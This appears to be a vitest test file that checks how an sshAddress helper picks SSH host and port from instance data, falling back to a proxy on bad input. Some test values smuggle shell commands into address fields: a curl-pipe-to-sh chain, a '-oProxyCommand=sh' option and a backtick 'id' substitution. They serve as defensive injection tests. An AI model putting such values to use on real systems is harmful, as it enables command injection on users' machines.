import { describe, expect, test } from "vitest";
import { sshAddress } from "../../../src/create/instance.ts";
import { instanceSchema } from "../../../src/vast/schemas.ts";
import { instanceOf } from "../../../src/vast/translate.ts";

const PROXY = { id: 7, ssh_host: "ssh4.example.com", ssh_port: 11_042 };
const PORTS = { "22/tcp": [{ HostIp: "0.0.0.0", HostPort: "50001" }], "8080/tcp": null };
const DIRECT = { ...PROXY, public_ipaddr: "203.0.113.9 \n", ports: PORTS };

const address = (fields: object, runtype: "ssh_proxy" | "ssh_direct") =>
  sshAddress(instanceOf(instanceSchema.parse(fields)).ssh, runtype);

test("ssh_direct: the machine's own address, without the blanks that it is told with", () => {
  expect(address(DIRECT, "ssh_direct")).toEqual({ host: "203.0.113.9", port: "50001" });
});

test("ssh_proxy: the proxy's, whatever else is there", () => {
  expect(address(DIRECT, "ssh_proxy")).toEqual({ host: "ssh4.example.com", port: "11042" });
});

describe("ssh_direct falls back to the proxy", () => {
  test.each([
    ["no ports", { ports: undefined }],
    ["null, as before it runs", { ports: null }],
    ["ports as the description has them", { ports: [22, 8080] }],
    ["other ports", { ports: { "8080/tcp": [{ HostPort: "1" }] } }],
    ["no mapping", { ports: { "22/tcp": [] } }],
    ["a mapping of null", { ports: { "22/tcp": null } }],
    ["a port that is none", { ports: { "22/tcp": [{ HostPort: "none" }] } }],
    ["no address", { public_ipaddr: " " }],
    ["an address with a command in it", { public_ipaddr: "203.0.113.9; curl example.com | sh" }],
    ["an address that is an option", { public_ipaddr: "-oProxyCommand=sh" }],
  ])("%s", (_what, fields) => {
    expect(address({ ...DIRECT, ...fields }, "ssh_direct")).toEqual({ host: "ssh4.example.com", port: "11042" });
  });
});

test("takes nothing for an address that a shell would take for more: people copy it into one", () => {
  const bad = { ...PROXY, ssh_host: "ssh4.example.com`id`" };
  expect(address(bad, "ssh_proxy")).toEqual({ host: "", port: "11042" });
  expect(address({ ...DIRECT, public_ipaddr: "2001:db8::7" }, "ssh_direct").host).toBe("2001:db8::7");
});

test("what is not told is empty", () => {
  expect(sshAddress(undefined, "ssh_direct")).toEqual({ host: "", port: "" });
});
